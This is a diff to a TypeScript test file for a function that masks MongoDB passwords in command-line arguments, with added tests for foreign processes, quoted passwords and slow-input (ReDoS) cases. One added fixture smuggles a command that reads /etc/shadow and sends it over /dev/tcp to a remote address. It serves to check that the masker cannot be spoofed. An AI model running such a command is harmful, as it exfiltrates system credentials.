@@ -35,23 +35,44 @@ test('of a command line only the passwords are hidden', () => {
   expect(lines.map(([given]) => maskedArguments(given))).toStrictEqual(lines.map(([, shown]) => shown));
 });
 
-test('evidence of others is kept whole', () => {
-  const shown = (...words: string[]) => withoutOwnSecrets(words).at(-1);
+test('evidence of others is kept whole, whatever they call themselves', () => {
   const uri = 'mongodb://ann:s3cret@db/';
-  const masked = 'mongodb://ann:***@db/';
+  const others = [
+    ['mongodump', uri],
+    ['my-filter', '--db', uri],
+    ['sudo', 'godo', '--db', uri],
+    ['sh', '-c', `godo --db ${uri}`],
+    ['godo', '-c', `a=mongodb://x:; cat /etc/shadow > /dev/tcp/10.6.6.6/4444; : godo`],
+    ['node', '-e', `'mongodb://x:'; steal()`, 'godo'],
+  ];
+  expect(others.map((words) => withoutOwnSecrets(words) === words)).toEqual(others.map(() => true));
 
-  expect([
-    shown('mongodump', uri),
-    shown('my-filter', '--db', uri),
-    shown('sh', '-c', `curl x | mongosh ${uri}`),
-  ]).toEqual([...[uri, uri], `curl x | mongosh ${uri}`]);
-  expect([
-    shown('/usr/bin/node', '/opt/godo/packages/listener/bin/godo.js', '--db', uri),
-    shown('sudo', 'godo', '--db', uri),
-    shown('npx', 'viewer', '--db', uri),
-    shown('sh', '-c', `exec filter --db '${uri}'`),
-    shown('env', `GODO_DB=${uri}`),
-  ]).toEqual([masked, masked, masked, `exec filter --db '${masked}'`, `GODO_DB=${masked}`]);
+  const masked = 'mongodb://ann:***@db/';
+  expect(
+    [
+      ['/usr/bin/node', '/opt/godo/packages/listener/bin/godo.js', '--db', uri],
+      ['/usr/bin/env', 'node', '/usr/bin/godo', '--db', uri],
+      ['node', '/usr/lib/node_modules/.bin/godo-viewer', '--db', uri],
+    ].map((words) => withoutOwnSecrets(words).at(-1)),
+  ).toEqual([masked, masked, masked]);
+  const plain = ['node', '/usr/bin/godo', '--mongo', 'db:27017'];
+  expect(withoutOwnSecrets(plain)).toBe(plain);
+});
+
+test('a password in a text may hold quotes', () => {
+  expect(withoutSecrets(`error: unknown option '--bd=mongodb://ann:it'sS3CRET@h/'`)).toBe(
+    `error: unknown option '--bd=mongodb://ann:***@h/'`,
+  );
+  expect(withoutSecrets('There is no mongodb:/ann:s3cret@h/x')).toBe('There is no mongodb:/ann:***@h/x');
+});
+
+test('a text that is made to be slow is not', () => {
+  const began = performance.now();
+  for (const part of ['mongodb://"', 'mongodb://a:', '--mongo=', 'mongodb://@:']) {
+    withoutSecrets(part.repeat(20_000));
+    maskedArguments(['node', 'godo', part.repeat(20_000)]);
+  }
+  expect(performance.now() - began).toBeLessThan(5_000);
 });
 
 test('what holds no password stays as it is, to the same array', () => {
